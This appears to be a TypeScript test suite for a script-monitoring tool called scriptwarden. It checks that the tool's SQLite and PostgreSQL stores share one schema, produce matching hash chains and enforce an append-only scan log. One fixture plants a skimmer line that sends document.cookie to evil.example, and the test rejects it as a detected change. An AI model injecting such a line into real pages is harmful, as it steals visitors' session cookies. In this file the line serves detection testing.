// Store on both dialects: one schema, the same chain hashes for the same scans, and one PostgreSQL database shared by two stores.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { openPostgres } from '../../src/store/postgres.js';
import { openSqlite } from '../../src/store/sqlite.js';
import type { Sql } from '../../src/store/sql.js';
import { APP, healthyShop, INLINE_A, LIB, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { createDatabase } from '../fixtures/postgres-cluster.js';

const cluster = () => process.env.SCRIPTWARDEN_TEST_POSTGRES!;

interface TableShape { columns: string[]; primaryKey: string[]; unique: string[]; foreignKeys: string[]; indexes: string[] }

const TYPES: Record<string, string> = { integer: 'integer', bigint: 'integer', text: 'text', citext: 'text', blob: 'bytes', bytea: 'bytes' };

async function sqliteShape(db: Sql): Promise<Record<string, TableShape>> {
  const shape: Record<string, TableShape> = {};
  const tables = await db.prepare<[], { name: string }>("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name").all();
  for (const { name } of tables) {
    const columns = await db.prepare<[], { name: string; type: string; notnull: number; pk: number }>(`SELECT name, type, "notnull", pk FROM pragma_table_info('${name}')`).all();
    const indexes = await db.prepare<[], { name: string; unique: number; origin: string; partial: number }>(`SELECT name, "unique", origin, partial FROM pragma_index_list('${name}')`).all();
    const keyColumns = async (index: string) => (await db.prepare<[], { name: string }>(`SELECT name FROM pragma_index_info('${index}') ORDER BY seqno`).all()).map((c) => c.name).join(',');
    // One row per column of a key: a key on two columns is one foreign key.
    const fks = await db.prepare<[], { from: string; table: string; to: string | null }>(
      `SELECT group_concat("from", ',') AS "from", "table", group_concat(COALESCE("to", 'id'), ',') AS "to" FROM (SELECT * FROM pragma_foreign_key_list('${name}') ORDER BY id, seq) GROUP BY id`,
    ).all();
    shape[name] = {
      // An INTEGER PRIMARY KEY is NOT NULL in effect, though SQLite's table_info does not say so.
      columns: columns.map((c) => `${c.name} ${TYPES[c.type.toLowerCase()] ?? c.type.toLowerCase()}${c.notnull || c.pk ? ' not null' : ''}`).sort(),
      primaryKey: columns.filter((c) => c.pk > 0).sort((a, b) => a.pk - b.pk).map((c) => c.name),
      unique: (await Promise.all(indexes.filter((i) => i.origin === 'u').map((i) => keyColumns(i.name)))).sort(),
      foreignKeys: fks.map((f) => `${f.from}->${f.table}.${f.to ?? 'id'}`).sort(),
      indexes: (await Promise.all(indexes.filter((i) => i.origin === 'c').map(async (i) => `${i.name}(${await keyColumns(i.name)})${i.partial ? ' partial' : ''}`))).sort(),
    };
  }
  return shape;
}

async function postgresShape(db: Sql): Promise<Record<string, TableShape>> {
  const shape: Record<string, TableShape> = {};
  const tables = await db.prepare<[], { name: string }>("SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1").all();
  for (const { name } of tables) {
    const columns = await db.prepare<[string], { name: string; type: string; nullable: string }>(
      "SELECT column_name AS name, CASE WHEN data_type = 'USER-DEFINED' THEN udt_name ELSE data_type END AS type, is_nullable AS nullable FROM information_schema.columns WHERE table_schema = 'public' AND table_name = ?",
    ).all(name);
    const constraints = await db.prepare<[string], { type: string; columns: string; target: string | null }>(
      `SELECT c.contype AS type,
              (SELECT string_agg(a.attname, ',' ORDER BY k.ord) FROM unnest(c.conkey) WITH ORDINALITY k(num, ord) JOIN pg_attribute a ON a.attrelid = c.conrelid AND a.attnum = k.num) AS columns,
              CASE WHEN c.contype = 'f' THEN (SELECT r.relname || '.' || string_agg(a.attname, ',' ORDER BY k.ord) FROM pg_class r, unnest(c.confkey) WITH ORDINALITY k(num, ord) JOIN pg_attribute a ON a.attrelid = c.confrelid AND a.attnum = k.num WHERE r.oid = c.confrelid GROUP BY r.relname) END AS target
         FROM pg_constraint c WHERE c.conrelid = CAST(? AS regclass)`,
    ).all(name);
    const indexes = await db.prepare<[string], { name: string; columns: string; partial: boolean }>(
      `SELECT i.relname AS name, (SELECT string_agg(a.attname, ',' ORDER BY k.ord) FROM unnest(x.indkey) WITH ORDINALITY k(num, ord) JOIN pg_attribute a ON a.attrelid = x.indrelid AND a.attnum = k.num) AS columns,
              x.indpred IS NOT NULL AS partial
         FROM pg_index x JOIN pg_class i ON i.oid = x.indexrelid
        WHERE x.indrelid = CAST(? AS regclass) AND NOT x.indisprimary AND NOT EXISTS (SELECT 1 FROM pg_constraint c WHERE c.conindid = x.indexrelid)`,
    ).all(name);
    shape[name] = {
      columns: columns.map((c) => `${c.name} ${TYPES[c.type] ?? c.type}${c.nullable === 'NO' ? ' not null' : ''}`).sort(),
      primaryKey: constraints.find((c) => c.type === 'p')?.columns.split(',') ?? [],
      unique: constraints.filter((c) => c.type === 'u').map((c) => c.columns).sort(),
      foreignKeys: constraints.filter((c) => c.type === 'f').map((c) => `${c.columns}->${c.target}`).sort(),
      indexes: indexes.map((i) => `${i.name}(${i.columns})${i.partial ? ' partial' : ''}`).sort(),
    };
  }
  return shape;
}

/** The same history on any store: scans with a change, an approval, a rejection, users and settings. */
async function history(store: Store): Promise<void> {
  const at = (minute: number) => `2026-11-20T10:${String(minute).padStart(2, '0')}:00.000Z`;
  const scan = async (capture: ReturnType<typeof healthyShop>, minute: number) =>
    store.scans.applyPlan(planScan(capture, await store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }), at(minute));
  await scan(healthyShop({ finishedAt: at(0) }), 0);
  await store.alerts.approveAll({ by: 'alice', note: 'first baseline', at: at(1) });
  await scan(healthyShop({ finishedAt: at(2) }), 2);
  const changed = await scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nnew Image().src = "https://evil.example/c?" + document.cookie` }), LIB, INLINE_A], { finishedAt: at(3) }), 3);
  await store.alerts.decide(changed.newAlerts.map((a) => a.id), 'rejected', { by: 'bob', note: 'skimmer', at: at(4) });
  await scan(pageCapture([APP, LIB, INLINE_A], { finishedAt: at(5) }), 5);
  await store.access.users.create({ name: 'Vera', role: 'approver', passwordHash: 'scrypt$x' }, { name: 'adam', ip: '10.0.0.5' }, at(6));
  await store.access.setTwoFactorPolicy('approvers', { name: 'adam', ip: '10.0.0.5' }, at(7));
}

const hashes = async (store: Store, db: Sql) => ({
  scans: await db.prepare<[], { id: number; prev_hash: string | null; record_hash: string | null }>('SELECT id, prev_hash, record_hash FROM scans ORDER BY id').all(),
  audit: await db.prepare<[], { id: number; hash: string }>('SELECT id, hash FROM audit_log ORDER BY id').all(),
  verify: await store.scans.verify(),
});

describe('one schema on SQLite and PostgreSQL', () => {
  it('gives both dialects the same tables, columns, keys and indexes', async () => {
    const sqlite = await openStore(join(tempProject('sw-dialects-'), 'sw.db'));
    const postgres = await openStore(await createDatabase(cluster()));
    const a = openSqlite(sqlite.path);
    const b = openPostgres(postgres.path, { poolSize: 1 });
    try {
      const [left, right] = [await sqliteShape(a), await postgresShape(b)];
      assert.deepEqual(Object.keys(right), Object.keys(left));
      for (const table of Object.keys(left)) assert.deepEqual(right[table], left[table], table);
    } finally {
      await Promise.all([a.close(), b.close(), sqlite.close(), postgres.close()]);
    }
  });

  it('hashes the same scans and decisions into the same chain on both, and verify passes on both', async () => {
    const sqlite = await openStore(join(tempProject('sw-dialects-'), 'sw.db'));
    const postgres = await openStore(await createDatabase(cluster()));
    const [a, b] = [openSqlite(sqlite.path), openPostgres(postgres.path, { poolSize: 1 })];
    try {
      await history(sqlite);
      await history(postgres);
      const [left, right] = [await hashes(sqlite, a), await hashes(postgres, b)];
      assert.equal(left.scans.length, 4);
      assert.ok(left.scans.every((s) => s.record_hash !== null));
      assert.ok(left.audit.length >= 4);
      assert.deepEqual(right.scans, left.scans);
      assert.deepEqual(right.audit, left.audit);
      assert.equal(left.verify.ok, true, JSON.stringify(left.verify.firstBreak));
      assert.deepEqual(right.verify, left.verify);
    } finally {
      await Promise.all([a.close(), b.close(), sqlite.close(), postgres.close()]);
    }
  });

  it('refuses a PostgreSQL database that a newer scriptwarden migrated, naming it without its password', async () => {
    const url = new URL(await createDatabase(cluster()));
    url.password = 'do-not-print-me';
    await (await openStore(url.toString())).close();
    const other = openPostgres(url.toString(), { poolSize: 1 });
    await other.prepare("INSERT INTO schema_migrations (version, name, applied_at) VALUES (999, '999-future.sql', '2027-01-01T00:00:00.000Z')").run();
    await other.close();
    await assert.rejects(() => openStore(url.toString()), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'STORE_INVALID');
      assert.match(error.message, /schema is newer than this scriptwarden knows \(migration 999/);
      assert.doesNotMatch(error.message, /do-not-print-me/);
      return true;
    });
  });

  it('keeps the scan log append-only on PostgreSQL: a sealed scan cannot be changed or removed', async () => {
    const store = await openStore(await createDatabase(cluster()));
    await history(store);
    const other = openPostgres(store.path, { poolSize: 1 });
    try {
      await assert.rejects(() => other.prepare("UPDATE scans SET url = 'https://elsewhere.example/' WHERE id = 2").run(), /scan log is append-only/);
      await assert.rejects(() => other.prepare('DELETE FROM scans WHERE id = 4').run(), /scan log is append-only/);
      assert.equal((await store.scans.verify()).ok, true);
    } finally {
      await other.close();
      await store.close();
    }
  });

  it('shares sessions, sign-in limits, users and decisions between two stores on one PostgreSQL database', async () => {
    const url = await createDatabase(cluster());
    const [one, two] = [await openStore(url), await openStore(url)];
    try {
      await history(one);
      const vera = (await two.access.users.get('vera'))!;
      assert.equal(vera.name, 'Vera', 'user names compare without case on both dialects');
      const session = await one.access.sessions.create(vera.id, 'full', '10.0.0.9');
      const limits = { idleMs: 3_600_000, absoluteMs: 86_400_000 };
      assert.equal((await two.access.sessions.read(session.cookie, limits))?.user.id, vera.id, 'a session made by one is read by the other');
      const attempts = { perAddress: 2, windowMs: 60_000, perAccount: 10 };
      const first = await one.access.attempts.reserve('203.0.113.7', vera.id, attempts);
      await one.access.attempts.settle((first as { id: number }).id, false);
      const second = await two.access.attempts.reserve('203.0.113.7', vera.id, attempts);
      await two.access.attempts.settle((second as { id: number }).id, false);
      assert.equal((await one.access.attempts.reserve('203.0.113.7', vera.id, attempts) as { refused?: string }).refused, 'address', 'failures through either count against one limit');
      const open = await one.alerts.list({ status: 'open' });
      const rejected = await two.alerts.list({ status: 'rejected' });
      assert.ok(rejected.length > 0);
      await one.alerts.decide([rejected[0]!.id], 'approved', { by: 'vera', note: 'vendor release after all', at: new Date().toISOString() });
      assert.equal((await two.alerts.get(rejected[0]!.id))!.status, 'approved', 'a decision through one is seen by the other at once');
      assert.equal((await two.alerts.list({ status: 'open' })).length, open.length);
      assert.equal((await two.scans.verify()).ok, true);
    } finally {
      await Promise.all([one.close(), two.close()]);
    }
  });
});
